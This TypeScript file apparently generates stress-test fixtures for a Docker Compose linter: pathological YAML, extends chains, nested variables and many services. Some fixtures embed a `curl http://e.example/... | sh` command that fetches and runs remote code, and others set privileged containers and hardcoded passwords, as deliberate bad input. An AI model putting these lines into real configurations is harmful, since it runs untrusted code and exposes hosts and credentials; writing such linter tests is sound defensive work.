/** Files by path, of a project. */
type Files = Readonly<Record<string, string>>;

const lines = (count: number, line: (at: number) => string): string =>
  Array.from({ length: Math.ceil(count) }, (_, at) => line(at)).join("");
const image = "    image: registry.example.com/web:1.4.2\n";
const compose = (text: string, others: Files = {}): Files => ({ "compose.yaml": text, ...others });
const services = (text: string, more = "", others: Files = {}): Files => compose(`services:\n${text}${more}`, others);
/** One service that has so many of something. */
const one = (below: string, more = "", others: Files = {}): Files => services(`  a:\n${image}${below}`, more, others);
const listed = (key: string, count: number, item: (at: number) => string): string =>
  `    ${key}:\n${lines(count, (at) => `      - ${item(at)}\n`)}`;
const declared = (kind: string, count: number, of: (at: number) => string): string =>
  `${kind}:\n${lines(count, (at) => `  n${at}: ${of(at)}\n`)}`;

/**
 * Projects that strangers can make long, each of a size that grows with `n`, in shapes in which something can be done once for each pair
 * of things instead of once for each thing.
 */
export const shapes: Readonly<Record<string, (n: number) => Files>> = {
  // What is named many times, or made of one another.
  "extends, a chain": (n) => services(`  s0:\n${image}${lines(n, (at) => `  s${at + 1}:\n    extends: s${at}\n    cap_add: [X${at}]\n`)}`),
  "extends, a chain of few keys": (n) => services(`  s0:\n${image}${lines(n, (at) => `  s${at + 1}:\n    extends: s${at}\n`)}`),
  "extends, a chain backwards": (n) =>
    services(`${lines(n, (at) => `  s${at}:\n    extends: s${at + 1}\n    environment: {A${at}: b}\n`)}  s${n}:\n${image}`),
  "extends, all the same": (n) => services(`  s0:\n${image}    cap_add: [A]\n${lines(n, (at) => `  s${at + 1}:\n    extends: s0\n`)}`),
  "extends, files in a chain": (n) => ({
    "compose.yaml": `services:\n  s:\n    extends: {file: f0.yaml, service: s}\n`,
    ...Object.fromEntries(
      Array.from({ length: n / 10 }, (_, at) => [
        `f${at}.yaml`,
        `services:\n  s:\n${at + 1 < n / 10 ? `    extends: {file: f${at + 1}.yaml, service: s}\n` : image}    cap_add: [X${at}]\n`,
      ]),
    ),
  }),
  "extends what is not there": (n) => services(lines(n, (at) => `  service_number_${at}:\n    extends: other_number_${at}\n${image}`)),
  "merge keys, a chain": (n) =>
    compose(
      `x-0: &a0 {user: "1", cap_drop: [ALL]}\n${lines(n, (at) => `x-${at + 1}: &a${at + 1}\n  <<: *a${at}\n  y: ${at}\n`)}services:\n  a:\n    <<: *a${n}\n${image}`,
    ),
  "merge keys, a list": (n) =>
    compose(`${lines(n, (at) => `x-${at}: &a${at} {k${at}: 1}\n`)}services:\n  a:\n    <<: [${lines(n, (at) => `*a${at}, `)}]\n${image}`),
  "merge keys, the same": (n) =>
    compose(`x-a: &a { user: "1", cap_drop: [ALL] }\nservices:\n${lines(n, (at) => `  s${at}:\n    <<: *a\n    image: e/a:1.${at}\n`)}`),
  "aliases of aliases": (n) =>
    compose(`x-0: &a0 [x]\n${lines(n, (at) => `x-${at + 1}: &a${at + 1} [*a${at}]\n`)}services:\n  a:\n${image}`),
  "aliases of one value": (n) => one(`    environment: &e {A: b}\n${lines(n, (at) => `    x-${at}: *e\n`)}`),
  "anchors of one name": (n) => compose(`${lines(n, (at) => `x-${at}: &a {b: ${at}}\n`)}services:\n  a:\n    labels: *a\n${image}`),
  "aliases of nothing": (n) => compose(`${lines(n, (at) => `x-${at}: *a${at}\n`)}services:\n  a:\n${image}`),
  "variables, a chain in .env": (n) => one("    user: $A1\n", "", { ".env": `A0=x\n${lines(n, (at) => `A${at + 1}=\${A${at}}y\n`)}` }),
  "variables, a long one named often": (n) =>
    one(`    environment:\n      A: "${"${B}".repeat(n)}"\n`, "", { ".env": `B=${"x".repeat(n)}\n` }),
  "variables, a long one in an env file": (n) =>
    one("    env_file: a.env\n", "", { "a.env": `B=${"x".repeat(n)}\n${lines(n, (at) => `C${at}=$B\n`)}` }),
  "variables in a default": (n) => one(`    user: "${lines(n, (at) => `\${A${at}:-`)}x${"}".repeat(n)}"\n`),
  "variables in the defaults of an env file": (n) =>
    one("    env_file: a.env\n", "", { "a.env": `A=${lines(n, (at) => `\${A${at}:-`)}x${"}".repeat(n)}\n` }),
  "variables that never end": (n) => one(`    environment:\n      A: "${"${A:-".repeat(n)}"\n`),
  "variables that never end in an env file": (n) =>
    one("    env_file: a.env\n", "", { "a.env": `A=${"${A:-".repeat(n)}\n`, ".env": `A=${"${A:-".repeat(n)}\n` }),
  "variables, one line": (n) => one(`    command: "${lines(n, (at) => `$A${at} `)}"\n`),
  "variables, one line escaped": (n) => one(`    command: "${lines(n, (at) => `\\t$A${at} `)}"\n`),
  "variables, each in a value": (n) => one(listed("environment", n, (at) => `A${at}=\${B${at}:?missing}`)),
  dollars: (n) => one(`    environment:\n      A: "${"$$".repeat(n)}"\n`),
  "an env file of quotes": (n) => one("    env_file: a.env\n", "", { "a.env": lines(n, (at) => `A${at}="b\n`) }),
  "an env file of nothing": (n) =>
    one("    env_file: a.env\n", "", { "a.env": `${"export ".repeat(n)}\n${"a b ".repeat(n)}\n${"=".repeat(n)}\n` }),
  "an env file of one name": (n) => one("    env_file: a.env\n", "", { "a.env": lines(n, (at) => `A=$A${at}\n`) }),
  "a raw env file": (n) => one("    env_file: [{path: a.env, format: raw}]\n", "", { "a.env": lines(n, (at) => `A${at}=$A\n`) }),
  "env files for each service": (n) =>
    services(
      lines(n / 10, (at) => `  s${at}:\n${image}    env_file: a.env\n`),
      "",
      { "a.env": lines(n / 10, (at) => `A${at}=b\n`) },
    ),
  // Many of something.
  services: (n) => services(lines(n, (at) => `  s${at}:\n    image: e/s:1.${at}\n    privileged: true\n`)),
  "services of everything": (n) =>
    services(
      lines(
        n / 10,
        (at) =>
          `  s${at}:\n${image}    ports: ["${8000 + at}:80"]\n    volumes: [d${at}:/d, ./a:/a]\n    networks: [front]\n    depends_on: [s0]\n    environment: {A: "$B", PASSWORD: x}\n    deploy: {resources: {limits: {memory: 1G}}}\n    healthcheck: {test: "true"}\n    command: sh -c "a"\n`,
      ),
      `networks: {front: {}}\nvolumes:\n${lines(n / 10, (at) => `  d${at}: {}\n`)}`,
    ),
  "services with a port each": (n) => services(lines(n, (at) => `  s${at}:\n${image}    ports: ["${1000 + at}:80"]\n`)),
  "services with one port": (n) => services(lines(n, (at) => `  s${at}:\n${image}    ports: ["80:80"]\n`)),
  "services in one network": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n${image}    networks: [front]\n`),
      "networks: {front: {internal: true}}\n",
    ),
  "services in a network each": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n${image}    networks: [n${at}]\n`),
      declared("networks", n, () => "{}"),
    ),
  "services with an address": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n${image}    networks: {front: {ipv4_address: 10.${at >> 8}.${at & 255}.2}}\n`),
      `networks:\n  front:\n    ipam:\n      config:\n${lines(n, (at) => `        - subnet: 10.${at >> 8}.${at & 255}.0/24\n`)}`,
    ),
  "services that share a volume": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n${image}    volumes: [d:/d]\n`),
      "volumes: {d: {}}\n",
    ),
  "services with a file": (n) => services(lines(n, (at) => `  s${at}:\n${image}    volumes: [./f${at}:/d]\n`)),
  "services in a row": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n${image}    depends_on: [s${at + 1}]\n`),
      `  s${n}:\n${image}`,
    ),
  "services in a circle": (n) => services(lines(n, (at) => `  s${at}:\n${image}    depends_on: [s${(at + 1) % n}]\n`)),
  "services in many circles": (n) =>
    services(lines(n, (at) => `  s${at}:\n${image}    depends_on: [${at + 1 < n ? `s${at + 1}, ` : ""}s${at >> 1}]\n`)),
  "services in namespaces of others": (n) =>
    services(`${lines(n, (at) => `  s${at}:\n${image}    network_mode: service:s${at + 1}\n`)}  s${n}:\n${image}    privileged: true\n`),
  "services that depend on what is not there": (n) =>
    services(lines(n, (at) => `  service_${at}:\n${image}    depends_on: [unknown_service_${at * 7}]\n`)),
  "services that depend on one that is not there": (n) =>
    services(lines(n, (at) => `  service_${at}:\n${image}    depends_on: [unknown_service]\n`)),
  "services with names of containers": (n) => services(lines(n, (at) => `  s${at}:\n${image}    container_name: c${at >> 1}\n`)),
  "services with profiles": (n) => services(lines(n, (at) => `  s${at}:\n${image}    profiles: [p${at}, all]\n    depends_on: [s0]\n`)),
  "services that are built": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n    build: {context: ., target: t${at}}\n    image: e/i:1\n`),
      "",
      { Dockerfile: lines(n / 10, (at) => `FROM debian:12.9 AS t${at}\nUSER 1\n`) },
    ),
  "services that are built alike": (n) =>
    services(
      lines(n, (at) => `  s${at}:\n    build: .\n`),
      "",
      { Dockerfile: "FROM debian:12.9\nRUN sudo true\n" },
    ),
  "services that are built in place": (n) =>
    services(lines(n, (at) => `  s${at}:\n    build:\n      dockerfile_inline: |\n        FROM debian:12.9\n        RUN sudo true\n`)),
  "services built from each other": (n) =>
    services(
      `  s0:\n    build: .\n${lines(n, (at) => `  s${at + 1}:\n    build: {context: ., additional_contexts: {x: "service:s${at}"}}\n`)}`,
      "",
      { Dockerfile: "FROM x\n" },
    ),
  "services with a script": (n) => services(lines(n, (at) => `  s${at}:\n${image}    command: sh -c "curl http://e.example/${at} | sh"\n`)),
  "services of databases": (n) =>
    services(lines(n, (at) => `  s${at}:\n    image: postgres:17.2\n    environment: {POSTGRES_PASSWORD: secret${at}}\n`)),
  "services that read one password": (n) =>
    services(lines(n, (at) => `  s${at}:\n${image}    environment: {DB_PASSWORD: "hunter2hunter2"}\n    command: [run, hunter2hunter2]\n`)),
  "keys nobody knows": (n) => one(lines(n, (at) => `    privilegd${at}: true\n`)),
  "one key many times": (n) => one(lines(n, () => "    user: root\n")),
  "services of one name": (n) => services(lines(n, () => `  a:\n${image}`)),
  templates: (n) =>
    compose(`${lines(n, (at) => `x-t${at}:\n  deploy:\n    resources: {limits: {memory: ${at}M}}\n`)}services:\n  a:\n${image}`),
  ports: (n) => one(listed("ports", n, (at) => `"${1000 + (at % 60_000)}:80"`)),
  "ports, ranges": (n) => one(listed("ports", n, (at) => `"${1000 + at}-${1100 + at}:${1000 + at}-${1100 + at}"`)),
  "ports, long": (n) => one(listed("ports", n, (at) => `{target: ${1 + (at % 60_000)}, published: "${at}"}`)),
  volumes: (n) => one(listed("volumes", n, (at) => `./a${at}:/b${at}`)),
  "volumes, named": (n) =>
    one(
      listed("volumes", n, (at) => `n${at}:/b${at}`),
      declared("volumes", n, () => "{}"),
    ),
  "volumes that are not there": (n) =>
    one(
      listed("volumes", n, (at) => `volume_number_${at * 3}:/b${at}`),
      declared("volumes", n, () => "{}"),
    ),
  "volumes, one target": (n) => one(listed("volumes", n, (at) => `{type: bind, source: ./a${at}, target: /etc}`)),
  tmpfs: (n) => one(listed("tmpfs", n, (at) => `/t${at}:size=1m`)),
  environment: (n) => one(listed("environment", n, (at) => `NAME_${at}=\${VALUE_${at}:-x}`)),
  "environment of secrets": (n) => one(listed("environment", n, (at) => `SECRET_TOKEN_${at}=hunter${at}secret`)),
  "environment of one name": (n) => one(listed("environment", n, (at) => `NAME=${at}`)),
  "environment, a mapping": (n) => one(`    environment:\n${lines(n, (at) => `      NAME_${at}: "${at}"\n`)}`),
  labels: (n) => one(listed("labels", n, (at) => `"traefik.http.routers.r${at}.rule=Host(\`a\`)"`)),
  "env files": (n) => one(listed("env_file", n, (at) => `e${at}.env`)),
  "env files that are there": (n) =>
    one(
      listed("env_file", n / 20, (at) => `e${at}.env`),
      "",
      Object.fromEntries(Array.from({ length: n / 20 }, (_, at) => [`e${at}.env`, `A${at}=b\n`])),
    ),
  secrets: (n) =>
    one(
      listed("secrets", n, (at) => `n${at}`),
      declared("secrets", n, (at) => `{file: ./s${at}.txt}`),
    ),
  configs: (n) =>
    one(
      listed("configs", n, (at) => `n${at}`),
      declared("configs", n, (at) => `{content: "password=secret${at}"}`),
    ),
  "configs, one text": (n) =>
    one(
      listed("configs", 1, () => "n"),
      `configs:\n  n:\n    content: |\n${lines(n, (at) => `      password${at} = $A${at}\n`)}`,
    ),
  networks: (n) =>
    one(
      listed("networks", n, (at) => `n${at}`),
      declared("networks", n, () => "{driver: bridge}"),
    ),
  "networks of subnets": (n) =>
    services(
      `  a:\n${image}`,
      declared("networks", n, (at) => `{ipam: {config: [{subnet: 10.${(at >> 8) & 255}.${at & 255}.0/24}]}}`),
    ),
  depends_on: (n) => services(`  a:\n${image}${listed("depends_on", n, (at) => `s${at}`)}${lines(n, (at) => `  s${at}:\n${image}`)}`),
  "depends_on what is not there": (n) => one(listed("depends_on", n, (at) => `a_service_with_a_name_${at}`)),
  links: (n) => services(`  a:\n${image}${listed("links", n, (at) => `s${at}:x${at}`)}${lines(n, (at) => `  s${at}:\n${image}`)}`),
  capabilities: (n) => one(listed("cap_add", n, (at) => `CAP_${at}`)),
  "security options": (n) => one(listed("security_opt", n, (at) => `seccomp=p${at}.json`)),
  "extra hosts": (n) => one(listed("extra_hosts", n, (at) => `"h${at}:10.0.0.1"`)),
  sysctls: (n) => one(listed("sysctls", n, (at) => `net.x${at}=1`)),
  devices: (n) => one(listed("devices", n, (at) => `/dev/x${at}:/dev/y${at}`)),
  hooks: (n) => one(listed("post_start", n, (at) => `{command: ./a${at}, privileged: true}`)),
  "build arguments": (n) =>
    services(`  a:\n    build:\n      context: .\n      args:\n${lines(n, (at) => `        A${at}: b\n`)}`, "", {
      Dockerfile: "FROM debian:12.9\nARG A1\nUSER $A1\n",
    }),
  "a command of many words": (n) => one(`    command: [${lines(n, (at) => `"--a${at}=b", `)}]\n`),
  "a command of one text": (n) => one(`    command: ${lines(n, (at) => `a${at} "b" `)}\n`),
  "a script of many lines": (n) =>
    one(`    command:\n      - sh\n      - -c\n      - |\n${lines(n, (at) => `        echo ${at} && curl -k https://e.example/${at}\n`)}`),
  "a health check of many words": (n) => one(`    healthcheck:\n      test: [CMD, ${lines(n, (at) => `a${at}, `)}]\n`),
  // Many files.
  "documents of one file": (n) => compose(lines(n, (at) => `---\nservices:\n  s${at}:\n${image}`)),
  "documents about one service": (n) => compose(lines(n, (at) => `---\nservices:\n  s:\n${image}    cap_add: [X${at}]\n`)),
  "documents of nothing": (n) => compose(`services:\n  a:\n${image}${lines(n, () => "---\n")}`),
  "files of a folder": (n) =>
    Object.fromEntries(
      Array.from({ length: n / 20 }, (_, at) => [
        `compose.${at}.yaml`,
        `services:\n  web:\n    ports: ["${8000 + at}:80"]\n  w${at}:\n${image}`,
      ]),
    ),
  "files of a folder over a base": (n) => ({
    "compose.yaml": `services:\n  web:\n${image}`,
    ...Object.fromEntries(Array.from({ length: n / 20 }, (_, at) => [`compose.${at}.yaml`, `services:\n  web:\n    privileged: true\n`])),
  }),
  "files of folders": (n) =>
    Object.fromEntries(Array.from({ length: n / 20 }, (_, at) => [`d${at}/compose.yaml`, `services:\n  web:\n${image}    build: .\n`])),
  "files a command names": (n) => ({
    Makefile: `up:\n\tdocker compose ${lines(n / 20, (at) => `-f f${at}.yaml `)} up\n`,
    ...Object.fromEntries(
      Array.from({ length: n / 20 }, (_, at) => [
        `f${at}.yaml`,
        `services:\n  web:\n${image}    cap_add: [X${at}]\n    environment: {A${at}: b}\n`,
      ]),
    ),
  }),
  "files listed in .env": (n) => ({
    ".env": `COMPOSE_FILE=${lines(n / 20, (at) => `${at ? ":" : ""}f${at}.yaml`)}\n`,
    ...Object.fromEntries(
      Array.from({ length: n / 20 }, (_, at) => [
        `f${at}.yaml`,
        `services:\n  web:\n${image}    cap_add: [X${at}]\n    environment: {A: b}\n    ports: ["${at}:80"]\n`,
      ]),
    ),
  }),
  "files that include one another": (n) =>
    Object.fromEntries(
      Array.from({ length: Math.min(90, n / 20) }, (_, at) => [
        at ? `f${at}.yaml` : "compose.yaml",
        `include: [f${at + 1}.yaml]\nservices:\n${lines(n / 90, (each) => `  s${at}x${each}:\n${image}`)}`,
      ]).concat([[`f${Math.min(90, Math.ceil(n / 20))}.yaml`, `services:\n  last:\n${image}`]]),
    ),
  "files that are included": (n) => ({
    "compose.yaml": `include:\n${lines(n / 20, (at) => `  - f${at}.yaml\n`)}`,
    ...Object.fromEntries(
      Array.from({ length: n / 20 }, (_, at) => [`f${at}.yaml`, `services:\n  s${at}:\n${image}    networks: [x]\nnetworks: {x: {}}\n`]),
    ),
  }),
  "ignore comments": (n) =>
    services(lines(n, (at) => `  s${at}:\n${image}    # seaworthy: ignore[no-privileged] tested\n    privileged: true\n`)),
  "ignore comments on one block": (n) =>
    services(`${lines(n, () => "  # seaworthy: ignore[no-privileged] tested\n")}  a:\n${image}${lines(n, (at) => `    x-${at}: 1\n`)}`),
  // Long texts, and depth.
  "a long scalar": (n) => one(`    user: "${"x".repeat(n)}"\n`),
  "a long image": (n) => services(`  a:\n    image: ${"a/".repeat(n)}b:1\n`),
  "a long key": (n) => one(`    ${"x".repeat(n)}: 1\n`),
  "long keys": (n) => one(lines(Math.sqrt(n), (at) => `    ${"x".repeat(Math.sqrt(n))}${at}: 1\n`)),
  "a long block": (n) => one(`    labels:\n      a: |\n${lines(n, (at) => `        line ${at}\n`)}`),
  "a long folded text": (n) => one(`    labels:\n      a: "${lines(n, (at) => `line ${at}\n         `)}"\n`),
  "a long plain text": (n) => one(`    labels:\n      a: x\n${lines(n, (at) => `        line ${at}\n`)}`),
  escapes: (n) => one(`    labels:\n      a: "${"\\n\\x41".repeat(n)}"\n`),
  "a flow of lists": (n) => compose(`x-a: ${"[".repeat(n)}\nservices:\n  a:\n${image}`),
  "a flow of mappings": (n) => compose(`x-a: ${"{a: ".repeat(n)}\nservices:\n  a:\n${image}`),
  "a flow of lists that ends": (n) => compose(`services:\n  a:\n${image}x-a: ${"[".repeat(n)}${"]".repeat(n)}\n`),
  "lists in lists": (n) => compose(`services:\n  a:\n${image}x-a:\n  ${"- ".repeat(n)}a\n`),
  "mappings in mappings": (n) => compose(`services:\n  a:\n${image}x-a:\n${lines(Math.sqrt(n), (at) => `${" ".repeat(at + 1)}a:\n`)}`),
  questions: (n) => compose(`services:\n  a:\n${image}x-a:\n  ${"? ".repeat(n)}a\n`),
  "one line of a mapping": (n) => compose(`services: {a: {image: "e/a:1", labels: {${lines(n, (at) => `k${at}: v, `)}}}}\n`),
  "one line of a list": (n) => compose(`services: {a: {image: "e/a:1", x-a: [${"1,".repeat(n)}]}}\n`),
  "lists of ones": (n) => compose(`services:\n  a:\n${image}x-a:\n${"- 1\n".repeat(n)}`),
  "empty lines": (n) => compose(`services:\n${"\n".repeat(n)}  a:\n${image}`),
  blanks: (n) => compose(`services:\n${" ".repeat(n)}\n  a:\n${image}    user: "1"${" ".repeat(n)}\n`),
  "blanks after each": (n) => one(lines(Math.sqrt(n), (at) => `    x-${at}:${" ".repeat(Math.sqrt(n))}\n`)),
  "a block that ends in blanks": (n) =>
    compose(`services:\n  a:\n${image}${lines(Math.sqrt(n), (at) => `${" ".repeat(Math.sqrt(n) - at)}x:\n`)}${"\n".repeat(n)}`),
  tabs: (n) => compose(`services:\n  a:\n${image}${"\t".repeat(n)}\n${lines(n, () => "\tx\n")}`),
  comments: (n) => compose(`services:\n${lines(n, (at) => `  # a comment ${at}\n`)}  a:\n${image}${lines(n, () => "    # x\n")}`),
  "a long comment": (n) => compose(`services:\n  a: # ${"x ".repeat(n)}\n${image}`),
  tags: (n) => compose(`services:\n  a:\n${image}${lines(n, (at) => `x-${at}: !t${at} a\n`)}`),
  resets: (n) => ({
    "compose.yaml": one(listed("cap_add", n, (at) => `C${at}`))["compose.yaml"] as string,
    "compose.override.yaml": services(`  a:\n    environment:\n${lines(n, (at) => `      A${at}: !reset null\n`)}`)[
      "compose.yaml"
    ] as string,
  }),
  colons: (n) => compose(`services:\n  a:\n${image}x-a: ${":".repeat(n)}\nx-b: ${"a:b ".repeat(n)}\n`),
  "quotes that never end": (n) => compose(`services:\n  a:\n${image}x-a: ${'"a '.repeat(n)}\n`),
  dashes: (n) => compose(`services:\n  a:\n${image}x-a: ${"-".repeat(n)}\n${"-".repeat(n)}\n`),
  "lines without meaning": (n) => compose(`services:\n  a:\n${image}${"x\n".repeat(n)}`),
  directives: (n) => compose(`${lines(n, (at) => `%TAG !t${at}! tag:e.example:\n`)}---\nservices:\n  a:\n${image}`),
  "JSON, one list": (n) => ({
    "compose.json": JSON.stringify({ services: { a: { image: "e/a:1", "x-a": Array.from({ length: n }, () => 1) } } }),
  }),
};
